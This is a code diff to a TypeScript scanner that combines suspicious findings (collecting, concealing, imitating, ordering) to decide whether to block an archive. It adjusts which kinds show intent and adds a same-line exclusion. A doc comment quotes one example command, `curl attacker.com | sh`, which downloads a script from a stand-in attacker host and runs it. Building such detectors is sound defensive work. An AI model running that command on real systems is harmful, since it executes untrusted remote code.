@@ -58,13 +58,15 @@ export const DECISIVE: readonly (readonly [Evidence, Evidence])[] = [
   ["weakens", "orders"],
 ];
 
-/** Kinds that show an intention. Each of the others alone also occurs in honest programs. */
-const INTENTIONS: ReadonlySet<Evidence> = new Set(["collects", "conceals", "orders", "imitates"]);
+/** Kinds that show an intention. Each of the others alone also occurs in honest products. */
+const INTENTIONS: ReadonlySet<Evidence> = new Set(["collects", "conceals", "imitates"]);
 
 /**
  * Decides by evidence: two suspicious findings whose kinds support each other block the archive. Two kinds that do not
- * show an intention must occur in one file, because a large honest product can have both in different files. Files
- * about attacks, such as the tests of a scanner, provide no evidence here, but their findings still hold the archive.
+ * show an intention must occur in one file, because a large honest product can have both in different files. One
+ * command is one piece of evidence: `curl attacker.com | sh` in a text about attacks has a telling name and is run.
+ * Files about attacks, such as the tests of a scanner, provide no evidence here, but their findings still hold the
+ * archive.
  */
 export function combinedEvidence(suspicious: readonly Finding[]): Finding[] {
   const found = suspicious.flatMap((one) => {
@@ -74,11 +76,20 @@ export function combinedEvidence(suspicious: readonly Finding[]): Finding[] {
   for (const [kind, other] of DECISIVE) {
     const isIntended = INTENTIONS.has(kind) || INTENTIONS.has(other);
     for (const a of found.filter((each) => each.kind === kind)) {
-      const b = found.find((each) => each.kind === other && (isIntended || each.one.file === a.one.file));
+      const b = found.find(
+        (each) =>
+          each.kind === other &&
+          (isIntended || each.one.file === a.one.file) &&
+          !(kind === "collects" && isSamePlace(each.one, a.one)),
+      );
       if (b) return [both(a.one, b.one)];
     }
   }
   return [];
+}
+
+function isSamePlace(a: Finding, b: Finding): boolean {
+  return a.file === b.file && a.line !== undefined && a.line === b.line;
 }
 
 function both(a: Finding, b: Finding): Finding {
